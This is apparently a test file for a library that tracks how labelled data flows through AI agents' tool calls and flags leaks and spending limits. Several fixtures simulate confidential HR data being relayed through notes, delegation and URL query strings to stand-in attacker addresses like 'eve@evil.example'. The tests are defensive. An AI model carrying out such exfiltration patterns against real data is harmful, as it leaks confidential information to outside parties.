import type { GoalSpec } from "@enjoin/model";
import { expect, it } from "vitest";
import { call, contract } from "../../../test/builders/world-calls.js";
import { EVERYTHING, EVERYTHING_IN_URL } from "./effects.js";
import { reached } from "./goals.js";
import { enforcerLabels, groundOf, happen, startOf, type World } from "./world.js";

type CountGoal = Extract<GoalSpec, { kind: "count" }>;

const read = contract("files.read", ["path"], [{ verb: "reads", roles: { from: ["path"] } }]);
const copy = contract(
  "files.copy",
  ["from", "to"],
  [
    { verb: "reads", roles: { from: ["from"] } },
    { verb: "writes", roles: { to: ["to"] } },
  ],
);
const remove = contract("files.remove", ["path"], [{ verb: "deletes", roles: { what: ["path"] } }]);
const note = contract(
  "notes.write",
  ["name", "text"],
  [{ verb: "remembers", roles: { data: ["text"], as: ["name"] } }],
);
const recall = contract("notes.read", ["name"], [{ verb: "reads", roles: { from: ["name"] } }]);
const ticket = contract("tickets.read", ["name"], [{ verb: "reads", roles: { from: ["name"] } }]);
const send = contract(
  "mail.send",
  ["to", "body"],
  [{ verb: "sends", roles: { data: ["body"], to: ["to"] } }],
);
const reply = contract(
  "reply.send",
  ["links", "beside"],
  [{ verb: "sends", roles: { data: ["links", "beside"], to: ["links"] } }],
);
const fetch = contract("web.fetch", ["url"], [{ verb: "reads", roles: { from: ["url"] } }], ["untrusted"]);
const hand = contract(
  "agents.delegate",
  ["to", "task"],
  [{ verb: "delegates", roles: { to: ["to"], task: ["task"] } }],
);
const pay = contract(
  "bank.pay",
  ["to", "amount"],
  [{ verb: "pays", roles: { to: ["to"], amount: ["amount"] } }],
);

const all = [read, copy, remove, note, recall, ticket, send, fetch, hand, pay];
const ground = groundOf(
  { resources: [{ tool: "files.read", arguments: { path: "/hr/pay" }, labels: ["confidential"] }] },
  new Map(all.map((c) => [c.name, c])),
  new Map([["bob", "bob-1"]]),
  (["destination", "subject", "principal", "all"] as const).map((per) => ({
    kind: "total",
    title: "t",
    over: 1,
    per,
  })),
);
const leak: GoalSpec = {
  kind: "flow",
  title: "leak",
  labels: ["confidential"],
  verb: "sends",
  inside: ["acme.example"],
};

it("lets a session know what it reads, and nobody else", () => {
  const { world } = play(call("ann-1", read, { path: "/hr/pay" }));
  expect([...world.holds]).toEqual([["ann-1", new Set(["confidential"])]]);
});

it("finds declared data under every tool that reads the same place", () => {
  const { world } = play(
    call("ann-1", copy, { from: "/hr/pay", to: "/tmp/x" }),
    call("bob-1", read, { path: "/tmp/x" }),
  );
  expect(world.holds.get("bob-1")).toEqual(new Set(["confidential"]));
});

it("carries what a session knows through a note into another session", () => {
  const { world, changes } = play(
    call("ann-1", read, { path: "/hr/pay" }),
    call("ann-1", note, { name: "n", text: EVERYTHING }),
    call("bob-1", recall, { name: "n" }),
    call("bob-1", send, { to: "eve@evil.example", body: EVERYTHING }),
  );
  expect(reached(leak, world, changes)).toBe(
    "`confidential` data has reached `eve@evil.example`, which is not inside `acme.example`",
  );
});

it("does not mix up equal names of two systems", () => {
  const { world } = play(
    call("ann-1", read, { path: "/hr/pay" }),
    call("ann-1", note, { name: "n", text: EVERYTHING }),
    call("bob-1", ticket, { name: "n" }),
  );
  expect(world.holds.has("bob-1")).toBe(false);
});

it("tells the enforcer the labels of declared data, and nothing of what agents wrote down", () => {
  expect(enforcerLabels(ground, read, { path: "/hr/pay" })).toEqual(["confidential"]);
  expect(enforcerLabels(ground, copy, { from: "/hr/pay", to: "/x" })).toEqual(["confidential"]);
  expect(enforcerLabels(ground, recall, { name: "n" })).toEqual([]);
});

it("takes a text of its own to carry nothing", () => {
  const { changes } = play(
    call("ann-1", read, { path: "/hr/pay" }),
    call("ann-1", send, { to: "eve@evil.example", body: "hello" }),
  );
  expect(changes).toEqual([]);
});

it("takes along in an address what stands in it, and that to no other", () => {
  const answer = (beside: string, ...links: string[]) =>
    play(call("ann-1", read, { path: "/hr/pay" }), call("ann-1", reply, { links, beside })).changes.map(
      (change) => change.kind === "reached" && change.to.id,
    );
  const laden = `https://acme.example/?q=${EVERYTHING_IN_URL}`;
  expect(answer("hello", "https://evil.example/", laden)).toEqual([laden]);
  expect(answer(EVERYTHING, "https://evil.example/", laden)).toEqual(["https://evil.example/", laden]);
  expect(answer("hello", "https://evil.example/")).toEqual([]);
});

it("lets a session know what enters it, and nothing of what leaves it", () => {
  const page = { ...contract("page", ["at"], [], ["untrusted"]), point: "input" as const };
  const { world } = play(call("ann-1", page, { at: "x" }));
  expect(world.holds.get("ann-1")).toEqual(new Set(["untrusted"]));
  const told = happen(
    ground,
    startOf(ground),
    call("ann-1", { ...page, point: "output" }, { at: "x" }),
    false,
  );
  expect(told.world.holds.size + told.world.told.size).toBe(0);
});

it("knows a destination by its domain", () => {
  const inside = play(
    call("ann-1", read, { path: "/hr/pay" }),
    call("ann-1", send, { to: "bob@acme.example", body: EVERYTHING }),
  );
  expect(inside.changes).toHaveLength(1);
  expect(reached(leak, inside.world, inside.changes)).toBeUndefined();
});

it("lets a delegated task know what the delegating session knew", () => {
  const { world } = play(
    call("ann-1", read, { path: "/hr/pay" }),
    call("ann-1", hand, { to: "bob", task: EVERYTHING }),
  );
  expect(world.holds.get("bob-1")).toEqual(new Set(["confidential"]));
});

it("gives everything that a tool returns the labels of its contract", () => {
  const { world } = play(call("ann-1", fetch, { url: "https://a.example/" }));
  expect(world.holds.get("ann-1")).toEqual(new Set(["untrusted"]));
});

it("forgets what was deleted", () => {
  const { world } = play(
    call("ann-1", remove, { path: "/hr/pay" }),
    call("ann-1", read, { path: "/hr/pay" }),
  );
  // The declared call itself still reads its data: the world has no second copy of what a resource is.
  expect(world.lies.size).toBe(0);
});

it("adds up payments by destination, by subject, by principal and in all", () => {
  const calls = [
    call("ann-1", pay, { to: "x", amount: 60 }),
    call("ann-2", pay, { to: "y", amount: 60 }),
    call("bob-1", pay, { to: "x", amount: 60 }),
  ];
  const { world, changes } = play(...calls);
  const total = (per: "destination" | "subject" | "principal" | "all", over: number) =>
    reached({ kind: "total", title: "t", over, per }, world, changes);
  expect(total("destination", 119)).toBe("payments to `x` add up to 120, which is over 119");
  expect(total("destination", 120)).toBeUndefined();
  expect(total("subject", 59)).toBe("payments by `bob` add up to 60, which is over 59");
  expect(total("principal", 59)).toBe("payments on behalf of `bob` add up to 60, which is over 59");
  expect(total("all", 179)).toBe("payments add up to 180, which is over 179");
});

it("takes money that comes back for no payment", () => {
  const { world } = play(call("ann-1", pay, { to: "x", amount: -60 }));
  expect(world.tallies.size).toBe(0);
});

it("adds up within the time that a goal counts, and counts places and not calls", () => {
  const counting = { kind: "count", title: "c", verb: "deletes", over: 2, per: "subject" } as const;
  const sweep = contract("files.sweep", ["a", "b"], [{ verb: "deletes", roles: { what: ["a", "b"] } }]);
  const swept = (goal: CountGoal) => {
    const ground = groundOf({ resources: [] }, new Map([[sweep.name, sweep]]), new Map(), [goal]);
    const at = (time: number) => ({ ...call("ann-1", sweep, { a: "x", b: "y" }), time });
    const once = happen(ground, startOf(ground), at(0));
    const twice = happen(ground, once.world, at(60_000));
    return [once, twice].map(({ world, changes }) => reached(goal, world, changes));
  };
  expect(swept({ ...counting, within: "2m" })).toEqual([
    undefined,
    "`deletes` by `ann` adds up to 4 within 2m, which is over 2",
  ]);
  expect(swept({ ...counting, within: "1m" })).toEqual([undefined, undefined]);
  expect(swept({ ...counting, per: "destination", over: 1 })).toEqual([
    undefined,
    "`deletes` to `x` adds up to 2, which is over 1",
  ]);
});

it("adds up nothing that no goal asks for", () => {
  const quiet = groundOf({ resources: [] }, new Map(all.map((c) => [c.name, c])), new Map(), [leak]);
  const { world, changes } = happen(quiet, startOf(quiet), call("ann-1", pay, { to: "x", amount: 60 }));
  expect(world.tallies.size).toBe(0);
  expect(changes.map((change) => change.kind)).toEqual(["paid"]);
});

function play(...calls: ReturnType<typeof call>[]): ReturnType<typeof happen> {
  let last: ReturnType<typeof happen> = { world: startOf(ground), changes: [] };
  for (const next of calls) last = happen(ground, last.world as World, next);
  return last;
}
